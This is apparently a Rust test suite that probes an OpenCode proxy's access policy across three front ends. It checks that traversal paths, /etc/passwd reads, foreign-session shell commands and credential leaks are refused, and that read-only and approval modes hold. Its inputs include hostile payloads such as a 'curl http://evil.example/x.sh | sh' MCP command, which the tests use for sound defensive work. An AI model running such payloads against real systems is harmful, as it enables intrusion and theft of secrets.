//! The `/opencode` proxy policy against the real OpenCode, tried as an
//! attacker holding a client token would, through each front that applies
//! it: `openwork host`, `openwork-server`, and `openwork app`'s proxy to a
//! plain OpenCode. One suite ([`attack`]), the same answers from all three.
//!
//! Every request of the report that asked for this is here (percent-encoded
//! machine routes, `location[directory]`, ids from another folder, the
//! folder-wide views) plus their variants, with positive controls so a
//! refusal means what it says. After the suite, the host user's OpenCode
//! credentials and global config are byte for byte what they were, and the
//! other folder is untouched.
//!
//! Modes (`--read-only`, `--approval manual`) are tried on the host's proxy.
mod support;

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::mpsc::Receiver;
use std::time::Duration;

use serde_json::{json, Value};
use support::*;

const PASSWORD: &str = "engine-pw-for-the-policy-suite-0123456789";
const CLIENT: &str = "M1Claa9GxIU5yph83_ALIthzL8ypVobrbDAvl2keBPA";
const HOST: &str = "5iSiFOYvtqihELUJRQqKX1v0UM9p2_fFNYjLaFR2264";

/// The machine: the active workspace, another folder with a secret, and the
/// host user's OpenCode credentials and global config.
struct World {
    sandbox: Sandbox,
    ws: String,
    other: String,
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(dir)
        .output()
        .expect("git");
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
}

impl World {
    fn new() -> World {
        let sandbox = Sandbox::new();
        std::fs::write(sandbox.workspace.join("readme.txt"), "in the workspace\n").unwrap();
        let other = sandbox.path("other-folder");
        std::fs::create_dir_all(&other).unwrap();
        std::fs::write(other.join("secret.txt"), "SECRET-OF-THE-OTHER-FOLDER\n").unwrap();
        // Two git projects with their own history: two OpenCode projects.
        for dir in [&sandbox.workspace, &other] {
            git(dir, &["init", "-q"]);
            git(dir, &["add", "."]);
            git(dir, &["commit", "-q", "-m", "first"]);
        }
        // The host user's credentials and global config (what machine-wide
        // routes would change).
        let data = sandbox.path("data").join("opencode");
        std::fs::create_dir_all(&data).unwrap();
        std::fs::write(data.join("auth.json"), r#"{"openai":{"type":"api","key":"sk-original"}}"#).unwrap();
        let config = sandbox.path("config").join("opencode");
        std::fs::create_dir_all(&config).unwrap();
        std::fs::write(
            config.join("opencode.json"),
            json!({
                "$schema": "https://opencode.ai/config.json",
                "provider": {"openai": {"options": {"apiKey": "sk-global-secret"}}},
                "mcp": {"shared": {"type": "remote", "url": "http://127.0.0.1:9/mcp", "enabled": false,
                    "headers": {"Authorization": "Bearer global-mcp-secret"}}},
            })
            .to_string(),
        )
        .unwrap();
        let ws = canonical(&sandbox.workspace);
        let other = canonical(&other);
        World { sandbox, ws, other }
    }

    /// Files no client token may change: the user's OpenCode credentials,
    /// MCP credentials, global config, and the other folder.
    fn protected(&self) -> BTreeMap<PathBuf, Vec<u8>> {
        let mut out = BTreeMap::new();
        for f in ["data/opencode/auth.json", "data/opencode/mcp-auth.json", "config/opencode/opencode.json", "config/opencode/opencode.jsonc"] {
            let p = self.sandbox.path(f);
            out.insert(p.clone(), std::fs::read(&p).unwrap_or_default());
        }
        for e in std::fs::read_dir(&self.other).unwrap().flatten() {
            if e.file_name() != ".git" {
                out.insert(e.path(), std::fs::read(e.path()).unwrap_or_default());
            }
        }
        out
    }
}

/// OpenCode reached directly (the test's own view, to set up another
/// folder's session and check what the proxy let through).
struct Direct {
    base: String,
    password: String,
}

impl Direct {
    fn call(&self, method: &str, path: &str, dir: &str, body: Option<Value>) -> Value {
        let enc: String = url::form_urlencoded::byte_serialize(dir.as_bytes()).collect();
        let sep = if path.contains('?') { '&' } else { '?' };
        let mut req = http()
            .request(method.parse().unwrap(), format!("{}{path}{sep}directory={enc}", self.base))
            .basic_auth("opencode", Some(&self.password));
        if let Some(b) = body {
            req = req.json(&b);
        }
        let resp = req.send().unwrap();
        assert!(resp.status().is_success(), "{method} {path} directly: {}", resp.status());
        resp.json().unwrap_or(Value::Null)
    }
}

/// A front of the proxy: where `/opencode` is, and how to authenticate.
#[derive(Clone)]
struct Front {
    name: &'static str,
    /// URL of the proxy root (`…/opencode`, `…/app/api/remote/opencode`).
    base: String,
    headers: Vec<(String, String)>,
    /// Process that holds the upstream connections, and OpenCode's port.
    pid: i32,
    engine_port: u16,
    /// How a collaborator (a device token below owner) authenticates, for
    /// fronts that have device tokens.
    collaborator: Option<Vec<(String, String)>>,
}

/// Headers of a new collaborator device token of the host at `url`.
fn collaborator_of(url: &str, host_token: &str) -> Vec<(String, String)> {
    let resp = http()
        .post(format!("{url}/tokens"))
        .header("x-openwork-host-token", host_token)
        .json(&json!({"scope": "collaborator", "label": "attack suite"}))
        .send()
        .unwrap();
    assert_eq!(resp.status().as_u16(), 201);
    let issued: Value = resp.json().unwrap();
    vec![("authorization".into(), format!("Bearer {}", issued["token"].as_str().unwrap()))]
}

impl Front {
    /// A request through the front, written as is.
    fn send(&self, method: &str, path: &str, body: Option<Value>, extra: &[(&str, &str)]) -> (u16, String) {
        let (origin, prefix) = split_origin(&self.base);
        let mut headers: Vec<(&str, &str)> = self.headers.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        headers.extend_from_slice(extra);
        let body = body.map(|b| b.to_string());
        if body.is_some() {
            headers.push(("content-type", "application/json"));
        }
        raw_http(&origin, method, &format!("{prefix}{path}"), &headers, body.as_deref().map(str::as_bytes))
    }

    fn json(&self, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        let (s, b) = self.send(method, path, body, &[]);
        (s, serde_json::from_str(&b).unwrap_or(Value::Null))
    }

    /// Open an SSE stream through the front; lines on a channel.
    fn stream(&self, path: &str) -> Receiver<String> {
        let mut req = reqwest::blocking::Client::builder().no_proxy().build().unwrap().get(format!("{}{path}", self.base));
        for (k, v) in &self.headers {
            req = req.header(k, v);
        }
        let resp = req.send().unwrap();
        assert_eq!(resp.status().as_u16(), 200, "{} {path}", self.name);
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(resp).lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        rx
    }
}

fn split_origin(url: &str) -> (String, String) {
    let rest = url.trim_start_matches("http://");
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    (format!("http://{host}"), format!("/{path}"))
}

fn enc(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// A session of `dir`'s, made directly on OpenCode.
fn session_in(direct: &Direct, dir: &str, title: &str) -> String {
    direct.call("POST", "/session", dir, Some(json!({ "title": title })))["id"].as_str().unwrap().to_string()
}

/// Lines of `rx` until `deadline` passes.
fn drain(rx: &Receiver<String>, deadline: Duration) -> Vec<String> {
    let end = std::time::Instant::now() + deadline;
    let mut out = Vec::new();
    while let Some(left) = end.checked_duration_since(std::time::Instant::now()) {
        match rx.recv_timeout(left) {
            Ok(l) => out.push(l),
            Err(_) => break,
        }
    }
    out
}

/// Note a failure unless the request got `want`.
fn expect(failures: &mut Vec<String>, what: &str, (status, body): (u16, String), want: u16) {
    if status != want {
        failures.push(format!("{what}: {status} (wanted {want}): {}", body.chars().take(300).collect::<String>()));
    }
}

/// The suite. Failures are collected, so one run shows every hole.
fn attack(front: &Front, world: &World, direct: &Direct) {
    let mut failures: Vec<String> = Vec::new();
    let before = world.protected();
    let (ws, other) = (world.ws.as_str(), world.other.as_str());
    let foreign = session_in(direct, other, "another folder's session");
    let other_project = direct.call("GET", "/project/current", other, None)["id"].as_str().unwrap().to_string();
    let own_project = direct.call("GET", "/project/current", ws, None)["id"].as_str().unwrap().to_string();
    assert_ne!(other_project, own_project, "two projects");

    // Positive controls: the proxy works for the active folder.
    let (s, created) = front.json("POST", "/session", Some(json!({ "title": "mine" })));
    assert_eq!(s, 200, "{}: POST /session: {created}", front.name);
    let mine = created["id"].as_str().unwrap().to_string();
    assert_eq!(created["directory"], ws, "{}", front.name);
    expect(&mut failures, "GET /session (control)", front.send("GET", "/session", None, &[]), 200);
    expect(&mut failures, "GET /session/<mine> (control)", front.send("GET", &format!("/session/{mine}"), None, &[]), 200);
    let (s, file) = front.send("GET", "/api/fs/read/readme.txt", None, &[]);
    if s != 200 || !file.contains("in the workspace") {
        failures.push(format!("reading a workspace file (control): {s} {file}"));
    }

    // Machine-wide routes, percent-encoded as OpenCode decodes them.
    for (m, p, body) in [
        // Provider credentials: an API key at most (OAuth stays on the host machine).
        ("PUT", "/auth/openai", Some(json!({"type": "oauth", "refresh": "r", "access": "a", "expires": 1}))),
        ("PUT", "/%61uth/openai", Some(json!({"type": "wellknown", "key": "k", "token": "t"}))),
        ("PATCH", "/global/%63onfig", Some(json!({"model": "evil/model"}))),
        ("GET", "/global/config", None),
        ("POST", "/global/%64ispose", None),
        ("POST", "/global/upgrade", Some(json!({}))),
        ("DELETE", "/api/%63redential/openai", None),
        ("POST", "/provider/openai/%6fauth/authorize", Some(json!({"method": 0}))),
        ("DELETE", "/mcp/some-server/auth", None),
        ("POST", "/sync/steal", Some(json!({}))),
        ("GET", "/experimental/worktree", None),
        ("POST", "/api/integration/openai/connect/key", Some(json!({"key": "sk-EVIL"}))),
    ] {
        expect(&mut failures, &format!("{m} {p}"), front.send(m, p, body, &[]), 403);
    }
    // Provider API keys are an owner's: never a collaborator's, never through
    // the app's proxy to a plain OpenCode.
    let weaker = match &front.collaborator {
        Some(h) => Front { headers: h.clone(), ..front.clone() },
        None => front.clone(),
    };
    for (m, p, body) in [
        ("PUT", "/%61uth/openai", Some(json!({"type": "api", "key": "sk-EVIL"}))),
        ("PUT", "/auth/openai", Some(json!({"type": "api", "key": "sk-EVIL"}))),
        ("DELETE", "/auth/openai", None),
    ] {
        expect(&mut failures, &format!("{m} {p} ({})", if front.collaborator.is_some() { "collaborator" } else { "app" }), weaker.send(m, p, body, &[]), 403);
    }
    if front.collaborator.is_some() {
        for (m, p, body) in [("PATCH", "/config", Some(json!({"model": "evil/model"}))), ("POST", "/mcp", Some(json!({"name": "x", "config": {"type": "local", "command": ["sh"]}})))] {
            expect(&mut failures, &format!("{m} {p} (collaborator)"), weaker.send(m, p, body, &[]), 403);
        }
    }
    // Nothing listens for OpenAI's OAuth callback.
    assert!(std::net::TcpStream::connect("127.0.0.1:1455").is_err(), "{}: an OAuth listener was opened", front.name);

    // Paths that would be read twice, and what OpenCode has but the proxy does not list.
    for (p, want) in [
        ("/%2561uth/openai", 400),
        ("/session/%2e%2e/global/config", 400),
        ("/session/..%2Fglobal", 400),
        ("/session/ses_x%00", 400),
        ("/", 403),
        ("/index.html", 403),
        ("/AUTH/openai", 403),
    ] {
        expect(&mut failures, &format!("GET {p}"), front.send("GET", p, None, &[]), want);
    }

    // Folder pinning: every location input naming another folder.
    for p in [
        "/api/fs/read/passwd?location[directory]=/etc".to_string(),
        "/api/fs/list?location%5Bdirectory%5D=/etc".to_string(),
        "/api/fs/list?location%5bDirectory%5d=/etc".to_string(),
        format!("/api/fs/read/secret.txt?location[directory]={}", enc(other)),
        format!("/api/fs/read/secret.txt?location.directory={}", enc(other)),
        "/api/fs/list?location[workspace]=wrk_1".to_string(),
        format!("/session?directory={}", enc(other)),
        format!("/session?dir%65ctory={}", enc(other)),
        format!("/session?DIRECTORY={}", enc(other)),
        "/session?workspace=wrk_1".to_string(),
        format!("/file/content?path={}", enc(&format!("{other}/secret.txt"))),
        "/file/content?path=..%2Fother-folder%2Fsecret.txt".to_string(),
        "/file?path=/etc".to_string(),
    ] {
        let (s, body) = front.send("GET", &p, None, &[]);
        if body.contains("SECRET-OF-THE-OTHER-FOLDER") || body.contains("root:") {
            failures.push(format!("GET {p} read outside the workspace: {body}"));
        }
        expect(&mut failures, &format!("GET {p}"), (s, body), 403);
    }
    expect(&mut failures, "x-opencode-directory: other", front.send("GET", "/session", None, &[("x-opencode-directory", other)]), 403);
    expect(&mut failures, "x-opencode-directory: other (encoded)", front.send("GET", "/session", None, &[("x-opencode-directory", &enc(other))]), 403);
    expect(&mut failures, "x-opencode-workspace", front.send("GET", "/session", None, &[("x-opencode-workspace", "wrk_1")]), 403);
    expect(
        &mut failures,
        "POST /api/session in another folder",
        front.send("POST", "/api/session", Some(json!({"location": {"directory": other}})), &[]),
        403,
    );
    expect(&mut failures, "POST /session with a workspace", front.send("POST", "/session", Some(json!({"workspaceID": "wrk_1"})), &[]), 403);

    // Another folder's session and project by id.
    for (m, p, body) in [
        ("GET", format!("/session/{foreign}"), None),
        ("PATCH", format!("/session/{foreign}"), Some(json!({"title": "pwned"}))),
        ("GET", format!("/session/{foreign}/message"), None),
        ("POST", format!("/session/{foreign}/shell"), Some(json!({"agent": "build", "command": "touch pwned-by-shell"}))),
        ("DELETE", format!("/session/{foreign}"), None),
        ("GET", format!("/api/session/{foreign}"), None),
        ("GET", format!("/api/session/%73{}", &foreign[1..]), None),
        ("POST", "/session".to_string(), Some(json!({"parentID": foreign}))),
        ("POST", "/api/session".to_string(), Some(json!({"id": foreign}))),
        ("PATCH", format!("/project/{other_project}"), Some(json!({"name": "pwned"}))),
        ("GET", format!("/project/{other_project}/directories"), None),
    ] {
        expect(&mut failures, &format!("{m} {p}"), front.send(m, &p, body, &[]), 404);
    }
    let title = direct.call("GET", &format!("/session/{foreign}"), other, None)["title"].clone();
    assert_eq!(title, "another folder's session", "{}: the other folder's session was changed", front.name);
    assert!(!Path::new(other).join("pwned-by-shell").exists() && !Path::new(ws).join("pwned-by-shell").exists());

    // Credentials in answers: the user's provider keys and the global
    // config's secrets are redacted.
    for p in ["/provider", "/config/providers", "/config"] {
        let (s, body) = front.send("GET", p, None, &[]);
        if s != 200 || ["sk-original", "sk-global-secret", "global-mcp-secret"].iter().any(|k| body.contains(k)) {
            failures.push(format!("GET {p}: {s}, a credential in the answer: {}", body.chars().take(200).collect::<String>()));
        }
    }

    // Files a prompt names: only the workspace's; only file: and data: URLs.
    for url in [
        format!("file://{other}/secret.txt"),
        format!("file://{ws}/../other-folder/secret.txt"),
        "file:///etc/passwd".to_string(),
        "http://127.0.0.1:9/".to_string(),
    ] {
        let body = json!({"noReply": true, "parts": [{"type": "file", "mime": "text/plain", "url": url, "filename": "x.txt"}]});
        let (s, answer) = front.send("POST", &format!("/session/{mine}/message"), Some(body), &[]);
        if answer.contains("SECRET-OF-THE-OTHER-FOLDER") || answer.contains("root:") {
            failures.push(format!("a prompt attached {url} and read it"));
        }
        expect(&mut failures, &format!("prompt attaching {url}"), (s, answer), 403);
    }
    let ok = json!({"noReply": true, "parts": [{"type": "file", "mime": "text/plain", "url": format!("file://{ws}/readme.txt"), "filename": "readme.txt"}]});
    expect(&mut failures, "prompt attaching a workspace file (control)", front.send("POST", &format!("/session/{mine}/message"), Some(ok), &[]), 200);

    // A body the proxy cannot read is not forwarded unchecked (a lone
    // surrogate: serde_json refuses it, OpenCode's parser takes it).
    let before_other = direct.call("GET", "/session", other, None).as_array().map(Vec::len);
    let (origin, prefix) = split_origin(&front.base);
    let mut hs: Vec<(&str, &str)> = front.headers.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    hs.push(("content-type", "application/json"));
    let sneaky = format!(r#"{{"agent":"\ud800","location":{{"directory":"{other}"}}}}"#);
    expect(&mut failures, "POST /api/session with a lone surrogate", raw_http(&origin, "POST", &format!("{prefix}/api/session"), &hs, Some(sneaky.as_bytes())), 400);
    let sneaky = format!(r#"{{"parentID":"{foreign}","title":"child\ud800"}}"#);
    expect(&mut failures, "POST /session with a lone surrogate", raw_http(&origin, "POST", &format!("{prefix}/session"), &hs, Some(sneaky.as_bytes())), 400);
    assert_eq!(direct.call("GET", "/session", other, None).as_array().map(Vec::len), before_other, "nothing was created in the other folder");

    // A session id learnt as ours, deleted, then made again in another
    // folder (with the same id) is not ours any more.
    let reused = "ses_zzreusedforanotherfolder1";
    let (s, b) = front.send("POST", "/api/session", Some(json!({"id": reused})), &[]);
    assert_eq!(s, 200, "{}: {b}", front.name);
    expect(&mut failures, "GET the new session (control)", front.send("GET", &format!("/session/{reused}"), None, &[]), 200);
    expect(&mut failures, "DELETE it", front.send("DELETE", &format!("/session/{reused}"), None, &[]), 200);
    direct.call("POST", &format!("/api/session?location%5Bdirectory%5D={}", enc(other)), other, Some(json!({"id": reused, "location": {"directory": other}})));
    expect(&mut failures, "GET a reused id now in another folder", front.send("GET", &format!("/session/{reused}"), None, &[]), 404);
    expect(
        &mut failures,
        "POST /session/<reused id>/shell",
        front.send("POST", &format!("/session/{reused}/shell"), Some(json!({"agent": "build", "command": "touch pwned-by-reuse"})), &[]),
        404,
    );
    assert!(!Path::new(other).join("pwned-by-reuse").exists());

    // Creating permission requests (with patterns to save) is not a client's.
    expect(
        &mut failures,
        "POST /api/session/<mine>/permission",
        front.send("POST", &format!("/api/session/{mine}/permission"), Some(json!({"action": "external_directory", "save": ["*"]})), &[]),
        403,
    );

    // Machine-wide views: only the active folder.
    for p in [
        "/session".to_string(),
        "/api/session?limit=1".to_string(),
        "/session?scope=project".to_string(),
        "/experimental/session".to_string(),
        "/api/session".to_string(),
        format!("/api/session?project={other_project}"),
        format!("/api/session?project={other_project}&directory={}", enc(ws)),
    ] {
        let (s, body) = front.json("GET", &p, None);
        let items = body.as_array().cloned().or_else(|| body["data"].as_array().cloned()).unwrap_or_default();
        let dirs: Vec<String> = items
            .iter()
            .map(|i| i["directory"].as_str().or(i["location"]["directory"].as_str()).unwrap_or("?").to_string())
            .collect();
        // (A paged listing's cursor names sessions too: none of the other folder's.)
        let limited = p.contains("limit=1");
        let listed_mine = limited || items.iter().any(|i| i["id"] == mine.as_str());
        if s != 200 || dirs.iter().any(|d| d != ws) || !listed_mine || body.to_string().contains(&foreign) {
            failures.push(format!("GET {p}: {s}, folders {dirs:?}: {body}"));
        }
        if let Some(cursor) = body["cursor"]["next"].as_str() {
            let (_, page) = front.json("GET", &format!("/api/session?limit=1&cursor={}", enc(cursor)), None);
            if page.to_string().contains(&foreign) {
                failures.push(format!("the next page of {p} names another folder's session"));
            }
        }
    }
    let (s, projects) = front.json("GET", "/project", None);
    let ids: Vec<&str> = projects.as_array().map(|a| a.iter().filter_map(|p| p["id"].as_str()).collect()).unwrap_or_default();
    if s != 200 || ids != vec![own_project.as_str()] {
        failures.push(format!("GET /project: {s} {ids:?} (wanted only {own_project})"));
    }

    // Event streams: the global ones carry only the active folder's events;
    // any /event request shares one upstream.
    let streams = [front.stream("/global/%65vent"), front.stream("/api/event")];
    let idle = connections_to(front.pid, front.engine_port);
    let plain: Vec<Receiver<String>> = (0..20).map(|i| front.stream(&format!("/event?x={i}"))).collect();
    let theirs = session_in(direct, other, "created while watching");
    let (s, created) = front.json("POST", "/session", Some(json!({ "title": "mine while watching" })));
    assert_eq!(s, 200, "{created}");
    let ours = created["id"].as_str().unwrap().to_string();
    for (name, rx) in ["/global/event", "/api/event"].iter().zip(&streams) {
        let mut seen = Vec::new();
        poll(Duration::from_secs(30), &format!("{}: {name} shows our session", front.name), || {
            seen.extend(drain(rx, Duration::from_millis(200)));
            seen.iter().any(|l| l.contains(&ours)).then_some(())
        });
        seen.extend(drain(rx, Duration::from_millis(500)));
        if seen.iter().any(|l| l.contains(&theirs) || l.contains(other)) {
            failures.push(format!("{name} carried another folder's events"));
        }
    }
    for rx in &plain {
        poll(Duration::from_secs(30), "/event?x= stream shows our session", || drain(rx, Duration::from_millis(100)).iter().any(|l| l.contains(&ours)).then_some(()));
    }
    let with_streams = connections_to(front.pid, front.engine_port);
    // One shared upstream for the 20 `/event?x=` streams, plus the pool's
    // idle keep-alive connections of the requests made meanwhile; 20
    // upstreams would be 20 more.
    if with_streams >= idle + 10 {
        failures.push(format!("20 `/event?x=` subscribers use {with_streams} connections to OpenCode (before them: {idle})"));
    }
    drop(plain);
    drop(streams);

    assert_eq!(world.protected(), before, "{}: files outside the workspace changed", front.name);
    assert!(failures.is_empty(), "{}:\n{}", front.name, failures.join("\n"));
}

/// A wrapper that starts the real OpenCode and tells the test its password.
fn engine_wrapper(sandbox: &Sandbox) -> (PathBuf, PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let pw = sandbox.path("engine-password");
    let wrapper = sandbox.path("opencode-telling-its-password");
    std::fs::write(
        &wrapper,
        format!(
            "#!/bin/sh\nif [ \"$1\" = --version ]; then exec {bin} --version; fi\nprintf %s \"$OPENCODE_SERVER_PASSWORD\" > {pw}\nexec {bin} \"$@\"\n",
            bin = opencode_bin().display(),
            pw = pw.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
    (wrapper, pw)
}

fn host_front(world: &World, extra: &[&str]) -> (TestHost, Front, Direct) {
    let (wrapper, pw) = engine_wrapper(&world.sandbox);
    let mut args = vec!["--opencode-bin", wrapper.to_str().unwrap()];
    args.extend_from_slice(extra);
    let host = TestHost::start(&world.sandbox, &args);
    let port = host.ready["engine"]["port"].as_u64().unwrap() as u16;
    let direct = Direct { base: format!("http://127.0.0.1:{port}"), password: std::fs::read_to_string(pw).unwrap() };
    let front = Front {
        name: "openwork host",
        base: format!("{}/opencode", host.url),
        headers: vec![("authorization".into(), format!("Bearer {}", host.client_token))],
        pid: host.pid(),
        engine_port: port,
        collaborator: Some(collaborator_of(&host.url, &host.host_token)),
    };
    (host, front, direct)
}

#[test]
fn the_host_proxy_holds() {
    let world = World::new();
    let (_host, front, direct) = host_front(&world, &[]);
    attack(&front, &world, &direct);
}

#[test]
fn the_sidecar_proxy_holds() {
    let world = World::new();
    let engine = Opencode::start(&world.sandbox, Some(PASSWORD));
    let sidecar = Sidecar::start(&world.sandbox, &engine.base, PASSWORD, (CLIENT, HOST), &[]);
    let front = Front {
        name: "openwork-server",
        base: format!("{}/opencode", sidecar.url),
        headers: vec![("authorization".into(), format!("Bearer {CLIENT}"))],
        pid: sidecar.child.id() as i32,
        engine_port: engine.base.rsplit(':').next().unwrap().parse().unwrap(),
        collaborator: Some(collaborator_of(&sidecar.url, HOST)),
    };
    let direct = Direct { base: engine.base.clone(), password: PASSWORD.into() };
    attack(&front, &world, &direct);
    // Every route the real OpenCode describes (`GET /doc`) is classified.
    let doc = direct.call("GET", "/doc", &world.ws, None);
    let mut unclassified = Vec::new();
    for (pattern, ops) in doc["paths"].as_object().expect("OpenCode's API description") {
        for method in ops.as_object().unwrap().keys() {
            let m: reqwest::Method = method.to_uppercase().parse().unwrap();
            if !openwork_proxy::routes::classifies(&m, pattern) {
                unclassified.push(format!("{m} {pattern}"));
            }
        }
    }
    assert!(unclassified.is_empty(), "OpenCode routes the policy does not classify: {unclassified:?}");
}

#[test]
fn the_app_proxy_to_a_plain_opencode_holds() {
    let world = World::new();
    let engine = Opencode::start(&world.sandbox, Some(PASSWORD));
    let app = App::start(&world.sandbox);
    let headers = app.headers();
    let mut req = http().post(format!("{}/app/api/connect", app.url)).json(&json!({
        "url": engine.base, "opencodePassword": PASSWORD, "directory": world.ws,
    }));
    for (k, v) in &headers {
        req = req.header(k, v);
    }
    let resp = req.send().unwrap();
    let status = resp.status().as_u16();
    let body: Value = resp.json().unwrap_or(Value::Null);
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["remoteType"], "opencode", "{body}");
    let front = Front {
        name: "openwork app (plain OpenCode)",
        base: format!("{}/app/api/remote/opencode", app.url),
        headers,
        pid: app.child.id() as i32,
        engine_port: engine.base.rsplit(':').next().unwrap().parse().unwrap(),
        collaborator: None,
    };
    attack(&front, &world, &Direct { base: engine.base.clone(), password: PASSWORD.into() });
}

/// Folders without git share OpenCode's `global` project: nothing saved for
/// that project (permissions answered `always`, project settings) may be
/// changed or read through one of them.
#[test]
fn the_shared_global_project_is_not_a_clients() {
    let sandbox = Sandbox::new();
    let host = TestHost::start(&sandbox, &[]);
    let front = Front {
        name: "openwork host (no git)",
        base: format!("{}/opencode", host.url),
        headers: vec![("authorization".into(), format!("Bearer {}", host.client_token))],
        pid: host.pid(),
        engine_port: 0,
        collaborator: None,
    };
    let (_, current) = front.json("GET", "/project/current", None);
    assert_eq!(current["id"], "global", "{current}");
    let mut failures = Vec::new();
    expect(&mut failures, "GET /api/permission/saved", front.send("GET", "/api/permission/saved", None, &[]), 403);
    expect(&mut failures, "PATCH /project/global", front.send("PATCH", "/project/global", Some(json!({"name": "x"})), &[]), 403);
    expect(&mut failures, "GET /project/global/directories", front.send("GET", "/project/global/directories", None, &[]), 403);
    expect(&mut failures, "reply always", front.send("POST", "/permission/per_1/reply", Some(json!({"reply": "always"})), &[]), 403);
    let (s, body) = front.send("POST", "/permission/per_1/reply", Some(json!({"reply": "once"})), &[]);
    if s == 403 {
        failures.push(format!("a reply of `once` was refused: {body}"));
    }
    let (_, projects) = front.json("GET", "/project", None);
    assert_eq!(projects.as_array().map(|a| a.len()), Some(1), "{projects}");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// `--read-only` forwards only reads: no config change, no MCP command, no
/// shell, no session.
#[test]
fn read_only_covers_the_proxy() {
    let world = World::new();
    let (_host, front, direct) = host_front(&world, &["--read-only"]);
    let marker = world.sandbox.path("marker-read-only");
    let session = session_in(&direct, &world.ws, "made on the host");
    for (m, p, body) in [
        ("PATCH", "/config".to_string(), json!({"username": "changed"})),
        ("POST", "/mcp".to_string(), json!({"name": "evil", "config": {"type": "local", "command": ["touch", marker.to_str().unwrap()]}})),
        ("POST", format!("/session/{session}/shell"), json!({"agent": "build", "command": format!("touch {}", marker.display())})),
        ("POST", "/session".to_string(), json!({"title": "x"})),
        ("POST", "/instance/dispose".to_string(), json!({})),
    ] {
        let (s, b) = front.json(m, &p, Some(body));
        assert_eq!((s, b["code"].as_str()), (403, Some("read_only")), "{m} {p}: {b}");
    }
    assert!(!marker.exists(), "a command ran on a read-only host");
    assert!(!world.sandbox.workspace.join("config.json").exists());
    let (s, _) = front.json("GET", &format!("/session/{session}"), None);
    assert_eq!(s, 200, "reads still work");
}

/// `--approval manual` holds config changes made through the proxy until
/// the host answers, showing the change itself; both outcomes audited.
#[test]
fn approvals_cover_proxied_config_changes() {
    let world = World::new();
    let (host, front, _direct) = host_front(&world, &["--approval", "manual", "--approval-timeout", "60000"]);
    let marker = world.sandbox.path("marker-approval");
    let pending = |what: &str| {
        poll(Duration::from_secs(30), what, || {
            let resp = http().get(format!("{}/approvals", host.url)).header("x-openwork-host-token", &host.host_token).send().ok()?;
            let v: Value = resp.json().ok()?;
            v["items"].as_array()?.first().cloned()
        })
    };
    let answer = |id: &str, reply: &str| {
        let r = http()
            .post(format!("{}/approvals/{id}", host.url))
            .header("x-openwork-host-token", &host.host_token)
            .json(&json!({ "reply": reply }))
            .send()
            .unwrap();
        assert_eq!(r.status().as_u16(), 200);
    };
    let front_ref = &front;
    std::thread::scope(|s| {
        let front = front_ref;
        // An MCP server whose command is the change: denied, never run.
        let cmd = format!("curl http://evil.example/x.sh | sh; touch {}", marker.display());
        let t = s.spawn(move || front.json("POST", "/mcp", Some(json!({"name": "helper", "config": {"type": "local", "command": ["sh", "-c", cmd]}}))));
        let p = pending("the MCP change waiting");
        assert_eq!(p["action"], "opencode.config");
        assert!(p["change"].as_str().unwrap().contains("curl http://evil.example/x.sh | sh"), "the approver sees the command: {p}");
        answer(p["id"].as_str().unwrap(), "deny");
        let (status, body) = t.join().unwrap();
        assert_eq!((status, body["code"].as_str()), (403, Some("write_denied")), "{body}");
        assert!(!marker.exists());
        // A config change: allowed, applied.
        let t = s.spawn(move || front.json("PATCH", "/config", Some(json!({"username": "approved-change"}))));
        let p = pending("the config change waiting");
        assert!(p["change"].as_str().unwrap().contains("\"username\": \"approved-change\""), "{p}");
        answer(p["id"].as_str().unwrap(), "allow");
        let (status, body) = t.join().unwrap();
        assert_eq!(status, 200, "{body}");
        // A provider API key from the owner: the approver sees which
        // provider, not the key; allowed, OpenCode keeps it.
        let t = s.spawn(move || front.json("PUT", "/auth/stubprovider", Some(json!({"type": "api", "key": "sk-OWNER-KEY-123"}))));
        let p = pending("the provider key waiting");
        assert_eq!(p["action"], "opencode.credentials", "{p}");
        let change = p["change"].as_str().unwrap();
        assert!(change.contains("PUT /auth/stubprovider") && change.contains("[redacted]") && !change.contains("sk-OWNER-KEY-123"), "{p}");
        answer(p["id"].as_str().unwrap(), "allow");
        let (status, body) = t.join().unwrap();
        assert_eq!(status, 200, "{body}");
    });
    let auth = std::fs::read_to_string(world.sandbox.path("data/opencode/auth.json")).unwrap_or_default();
    assert!(auth.contains("stubprovider") && auth.contains("sk-OWNER-KEY-123"), "OpenCode stored the key: {auth}");
    // OpenCode writes the change to the project's `config.json`.
    let written = std::fs::read_to_string(world.sandbox.workspace.join("config.json")).unwrap_or_default();
    assert!(written.contains("approved-change"), "{written}");
    let (_, audit) = get(&format!("{}/workspace/{}/audit", host.url, host.ready["workspace"]["id"].as_str().unwrap()), Some(&host.client_token));
    let outcomes: Vec<(String, String)> = audit["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "opencode.config")
        .map(|e| (e["target"].as_str().unwrap().to_string(), e["outcome"].as_str().unwrap().to_string()))
        .collect();
    assert_eq!(
        outcomes,
        vec![("POST /mcp".to_string(), "denied".to_string()), ("PATCH /config".to_string(), "applied".to_string())],
        "{audit}"
    );
    let creds: Vec<&Value> = audit["items"].as_array().unwrap().iter().filter(|e| e["action"] == "opencode.credentials").collect();
    assert_eq!(creds.len(), 1, "{audit}");
    assert_eq!(creds[0]["outcome"], "applied");
    assert!(!audit.to_string().contains("sk-OWNER-KEY-123"), "the key is not in the audit log");
}
